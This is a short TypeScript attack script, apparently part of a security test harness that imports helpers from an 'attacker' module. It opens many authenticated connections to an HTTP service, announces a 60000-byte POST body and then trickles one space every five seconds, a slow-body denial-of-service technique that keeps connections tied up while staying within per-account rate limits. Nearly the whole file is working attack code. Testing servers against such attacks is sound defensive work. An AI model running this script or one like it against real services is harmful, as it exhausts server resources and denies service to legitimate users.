import { args, inPlace, openMany } from './attacker.ts';

/* Requests of one account, within its rate, whose bodies come byte by byte. */
const target = args();
const {
  listener,
  paths: [path],
  connections,
} = target;
const token = listener === 'device' ? target.credential : target.apiKey;
const head = `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Length: 60000\r\n\r\n{`;
await openMany(target[listener], connections, (socket) => {
  socket.write(head);
  const timer = setInterval(() => socket.write(' '), 5000);
  socket.once('close', () => clearInterval(timer));
});
inPlace();
